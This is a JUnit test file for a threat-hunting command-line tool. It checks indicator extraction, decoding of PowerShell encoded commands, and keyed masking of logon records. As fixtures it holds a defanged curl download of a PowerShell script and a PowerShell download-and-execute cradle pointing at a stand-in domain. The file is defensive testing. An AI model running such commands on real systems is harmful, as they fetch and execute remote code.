package dev.hunt4j.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The analysis commands end to end through the command line. */
class AnalysisCommandsTest {
    @TempDir
    Path dir;

    @Test
    void iocExtractWritesOneRowPerRowTypeAndObservable() throws Exception {
        Path in = dir.resolve("cmd.csv");
        Files.writeString(in, """
                Host,CommandLine
                WKS-01,"curl hxxp://evil[.]example.net/a.ps1 -o C:\\\\Temp\\\\a.ps1"
                WKS-02,ping 10.0.19041.1
                WKS-03,"connect 203.0.113.5, mail bob@contoso.com"
                """);
        Path out = dir.resolve("iocs.csv");
        CliTest.Run r = CliTest.run("ioc", "extract", "--input", in.toString(), "--columns", "CommandLine", "--output", out.toString(),
                "--format", "csv");
        assertEquals(0, r.code(), r.err());
        List<String> lines = Files.readAllLines(out);
        assertEquals("IoCType,Observable,SourceIndex,Input", lines.get(0));
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("url,http://evil.example.net/a.ps1,0,")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("ipv4,203.0.113.5,2,")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("email,bob@contoso.com,2,")), lines.toString());
        assertTrue(lines.stream().noneMatch(l -> l.contains(",1,")), "a build number is not an IP: " + lines);
    }

    @Test
    void iocExtractNamesAMissingColumn() throws Exception {
        Path in = dir.resolve("x.csv");
        Files.writeString(in, "A,B\n1,2\n");
        CliTest.Run r = CliTest.run("ioc", "extract", "--input", in.toString(), "--columns", "CommandLine", "--format", "csv");
        assertEquals(2, r.code(), r.out());
        assertTrue(r.err().contains("CommandLine"), r.err());
    }

    @Test
    void b64DecodesPowerShellEncodedCommands() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://nvcdn-sync.net/x.ps1')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        CliTest.Run r = CliTest.run("b64", "--text", "powershell.exe -nop -enc " + encoded);
        assertEquals(0, r.code(), r.err());
        assertTrue(r.out().contains(script), r.out());
    }

    @Test
    void maskIsDeterministicPerKeyAndKeepsStructure() throws Exception {
        Path in = dir.resolve("logons.csv");
        Files.writeString(in, """
                TimeGenerated,Computer,TargetUserName,IpAddress,EventID
                2026-03-03T10:23:41Z,WKS-07.contoso.com,mlopez,10.20.10.107,4624
                2026-03-03T10:30:03Z,SRV-FILE01.contoso.com,mlopez,203.0.113.47,4624
                """);
        String key = "00112233445566778899aabbccddeeff";
        CliTest.Run first = CliTest.run("mask", "--input", in.toString(), "--key", key, "--format", "csv");
        CliTest.Run second = CliTest.run("mask", "--input", in.toString(), "--key", key, "--format", "csv");
        assertEquals(0, first.code(), first.err());
        assertEquals(first.out(), second.out(), "same key, same masks");
        List<String> lines = first.lines();
        assertEquals("TimeGenerated,Computer,TargetUserName,IpAddress,EventID", lines.get(0));
        String[] a = lines.get(1).split(",");
        String[] b = lines.get(2).split(",");
        assertEquals("2026-03-03T10:23:41Z", a[0], "unmapped columns pass through");
        assertEquals(a[2], b[2], "the same user masks the same way in every row");
        assertTrue(!a[2].equals("mlopez") && a[2].length() == "mlopez".length(), a[2]);
        assertTrue(a[3].startsWith("10."), "a private address stays private: " + a[3]);
        assertTrue(!a[3].equals("10.20.10.107") && !b[3].equals("203.0.113.47"), lines.toString());
        assertTrue(a[1].endsWith(".com") && !a[1].startsWith("WKS-07"), a[1]);
        CliTest.Run other = CliTest.run("mask", "--input", in.toString(), "--key", "ffeeddccbbaa99887766554433221100", "--format", "csv");
        assertTrue(!other.out().equals(first.out()), "another key gives other masks");
    }

    @Test
    void maskWithoutKeyPrintsTheGeneratedKeyOnce() throws Exception {
        Path in = dir.resolve("u.csv");
        Files.writeString(in, "TargetUserName\nalice\n");
        CliTest.Run r = CliTest.run("mask", "--input", in.toString(), "--format", "csv");
        assertEquals(0, r.code(), r.err());
        assertTrue(r.err().matches("(?s).*random key.*: [0-9a-f]{64}\\s*"), r.err());
    }
}
